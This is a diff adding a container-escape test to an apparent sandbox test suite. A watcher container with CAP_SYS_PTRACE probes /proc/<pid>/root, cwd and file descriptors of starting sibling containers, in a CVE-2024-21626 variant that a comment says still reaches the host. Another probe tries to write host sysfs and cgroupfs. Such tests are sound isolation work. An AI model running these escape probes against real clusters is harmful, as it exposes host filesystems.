@@ -295,6 +295,54 @@ EOF
   else refused "nothing of the host in $(printf '%s\n' "$out" | grep '^looked=')"; fi
 }
 
+# --- item 2 with SYS_PTRACE: the same window, the watcher holding CAP_SYS_PTRACE -------
+# CAP_SYS_PTRACE passes ptrace_may_access even for a non-dumpable process:
+# only the closed fds and where the starting process stands protect it.
+# OPEN (docs/security.md, "Known gaps"): this attempt ESCAPES today (the
+# starting process is in the pod's PID namespace with the host's root until
+# its pivot_root: 27 of the watcher's looks reached the host's marker file
+# through /proc/<pid>/root; no fd, no cwd). It is not in
+# $escape_mount_exec until that is fixed; run it alone with
+# `escape_run esc_setup_window_ptrace`.
+esc_setup_window_ptrace() {
+  attempt "CVE-2024-21626 with SYS_PTRACE: a sibling with CAP_SYS_PTRACE reads /proc/<pid>/fd, root and cwd of starting containers" || return 0
+  mkdir -p "$tmp/watchbin2"
+  : >"$tmp/watchbin2/host-marker"
+  cat >"$tmp/watchbin2/watch.sh" <<EOF
+me=\$\$
+end=\$((\$(date +%s) + 6)); n=0; seen=" "
+while [ "\$(date +%s)" -lt "\$end" ]; do
+  for d in /proc/[0-9]*; do
+    p=\${d#/proc/}
+    [ "\$p" = "\$me" ] && continue
+    [ -e "\$d/root$tmp/watchbin2/host-marker" ] && echo "HOST-ROOT \$p"
+    [ -e "\$d/cwd$tmp/watchbin2/host-marker" ] && echo "HOST-CWD \$p"
+    for f in "\$d"/fd/*; do
+      [ -e "\$f$tmp/watchbin2/host-marker" ] && echo "HOST-FD \$p \$f"
+    done
+    case "\$seen" in *" \$p "*) ;; *) seen="\$seen\$p " ;; esac
+    n=\$((n + 1))
+  done
+done
+echo "looked=\$n pids=\$(echo \$seen | wc -w)"
+EOF
+  {
+    pod_head swinp "  shareProcessNamespace: true
+  volumes: [{name: t, hostPath: {path: $tmp/watchbin2}}]"
+    printf '  - name: watch\n    image: busybox:1.36\n    command: [sh, /t/watch.sh]\n'
+    printf '    securityContext: {capabilities: {add: [SYS_PTRACE]}}\n'
+    printf '    volumeMounts: [{name: t, mountPath: /t, readOnly: true}]\n'
+    for i in 1 2 3 4 5 6 7 8; do
+      printf '  - name: t%s\n    image: busybox:1.36\n    command: [sh, -c, "sleep 0.2"]\n' "$i"
+    done
+  } >"$tmp/swinp.yaml"
+  run swinp
+  out=$(pod_log swinp watch)
+  if ! has "$out" '^looked='; then escaped "the watcher did not finish: $(tail -3 "$tmp/swinp.err")"
+  elif has "$out" 'HOST-'; then escaped "$(printf '%s\n' "$out" | grep -E 'HOST-' | cut -d' ' -f1 | sort | uniq -c | tr '\n' ' ')"
+  else refused "nothing of the host in $(printf '%s\n' "$out" | grep '^looked=')"; fi
+}
+
 esc_sysfs() {
   attempt "sysfs: write the host's cgroupfs or sysfs" || return 0
   pod sysfs "    command: [sh, -c, 'mkdir /sys/fs/cgroup/esc 2>/dev/null && echo MKDIR; echo 1 > /sys/kernel/mm/ksm/run 2>/dev/null && echo WROTE; grep -E \" /sys \" /proc/self/mounts; echo done']"
